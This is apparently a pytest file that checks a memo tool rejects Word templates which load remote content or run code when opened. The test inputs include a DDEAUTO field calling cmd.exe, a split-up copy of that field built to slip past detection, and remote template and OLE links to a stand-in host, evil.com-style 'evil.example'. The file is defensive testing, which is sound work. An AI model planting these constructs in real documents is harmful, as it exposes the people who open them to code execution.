"""Word templates that have the memo load something from elsewhere when it is opened."""

import zipfile

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from evenhand.exceptions import InvalidInputError
from evenhand.report.memo import open_word

ELSEWHERE = "https://evil.example/house.dotm"


@pytest.fixture
def template(tmp_path):
    """A document, and where to save it with a link."""
    document = docx.Document()
    document.add_paragraph("House")
    return document, tmp_path / "house.docx"


@pytest.mark.parametrize("kind", ["image", "oleObject", "subDocument", "frame"])
def test_what_a_template_loads_from_elsewhere_is_refused(template, kind):
    document, path = template
    document.part.relate_to(ELSEWHERE, RELATIONSHIP_TYPE.IMAGE.replace("image", kind), is_external=True)
    document.save(path)
    with pytest.raises(InvalidInputError, match=rf"loads '{ELSEWHERE}' whenever it is opened"):
        open_word(path)


def test_links_of_headers_are_found(template):
    document, path = template
    header = document.sections[0].header
    header.paragraphs[0].text = "House"
    header.part.relate_to(ELSEWHERE, RELATIONSHIP_TYPE.IMAGE, is_external=True)
    document.save(path)
    with pytest.raises(InvalidInputError, match="loads"):
        open_word(path)


def test_the_memo_does_not_load_the_template_of_its_template(template, tmp_path):
    """Word fetches the template of a document, with its macros, from wherever the document says."""
    document, path = template
    link = OxmlElement("w:attachedTemplate")
    settings = document.part._settings_part
    kind = RELATIONSHIP_TYPE.IMAGE.replace("image", "attachedTemplate")
    link.set(qn("r:id"), settings.relate_to(ELSEWHERE, kind, is_external=True))
    document.settings.element.append(link)
    document.save(path)
    with zipfile.ZipFile(path) as saved:
        assert any(ELSEWHERE.encode() in saved.read(name) for name in saved.namelist())
    open_word(path).word.save(tmp_path / "memo.docx")
    with zipfile.ZipFile(tmp_path / "memo.docx") as memo:
        assert not any(ELSEWHERE.encode() in memo.read(name) for name in memo.namelist())
        assert b"attachedTemplate" not in memo.read("word/settings.xml")


def test_hyperlinks_of_a_template_stay(template):
    document, path = template
    document.part.relate_to("https://bank.example", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    document.save(path)
    links = open_word(path).word.part.rels.values()
    assert "https://bank.example" in [link.target_ref for link in links if link.is_external]


def field(*pieces, kind="instrText"):
    """A paragraph with a field whose code is stored in pieces."""
    runs = [OxmlElement("w:r") for _ in range(len(pieces) + 2)]
    for run, mark in ((runs[0], "begin"), (runs[-1], "end")):
        character = OxmlElement("w:fldChar")
        character.set(qn("w:fldCharType"), mark)
        run.append(character)
    for run, piece in zip(runs[1:-1], pieces, strict=True):
        text = OxmlElement(f"w:{kind}")
        text.text = piece
        run.append(text)
    paragraph = OxmlElement("w:p")
    paragraph.extend(runs)
    return paragraph


@pytest.mark.parametrize(
    "pieces",
    [
        ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"],
        [" DD", "EAU", "TO cmd"],
        ["includetext ", f'"{ELSEWHERE}"'],
        ["INCLUDEPICTURE x"],
        ["LINK Excel.Sheet.8 x"],
        ["DATABASE x"],
    ],
)
@pytest.mark.parametrize("place", ["body", "header", "simple"])
def test_fields_that_load_or_start_something_are_refused(template, place, pieces):
    document, path = template
    header = document.sections[0].header
    if place == "simple":
        simple = OxmlElement("w:fldSimple")
        simple.set(qn("w:instr"), "".join(pieces))
        document.paragraphs[0]._p.append(simple)
    else:
        (document.element.body if place == "body" else header.paragraphs[0]._p.getparent()).insert(0, field(*pieces))
    document.save(path)
    with pytest.raises(InvalidInputError, match=r"runs the field '.*' whenever it is opened"):
        open_word(path)


@pytest.mark.parametrize("kind", ["oleObject", "control", "aFChunk"])
def test_embedded_objects_are_refused(template, kind):
    document, path = template
    part = Part(PackURI("/word/embedded.bin"), "application/octet-stream", b"MZ", document.part.package)
    document.part.relate_to(part, RELATIONSHIP_TYPE.IMAGE.replace("image", kind))
    document.save(path)
    with pytest.raises(InvalidInputError, match=rf"holds an embedded object \({kind}\)"):
        open_word(path)


def test_ordinary_fields_stay(template):
    document, path = template
    document.element.body.insert(0, field("PA", "GE"))
    document.element.body.insert(0, field(' HYPERLINK "https://bank.example" '))
    document.save(path)
    assert "HYPERLINK" in open_word(path).word.element.xml
